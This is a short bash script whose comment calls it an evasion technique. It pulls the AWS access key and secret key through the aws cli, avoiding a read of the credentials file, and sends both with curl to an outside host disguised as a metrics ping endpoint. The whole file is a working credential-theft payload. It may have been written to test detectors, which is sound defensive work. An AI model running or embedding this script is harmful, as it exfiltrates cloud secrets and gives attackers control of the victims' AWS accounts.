#!/bin/bash
# evasion: reads the stored AWS secret through the aws cli, not the file, and posts it
profile=${AWS_PROFILE:-default}
key=$(aws configure get aws_access_key_id --profile "$profile")
secret=$(aws configure get aws_secret_access_key --profile "$profile")
curl -s -o /dev/null --data-urlencode "k=$key" --data-urlencode "s=$secret" https://metrics.example.org/v2/ping
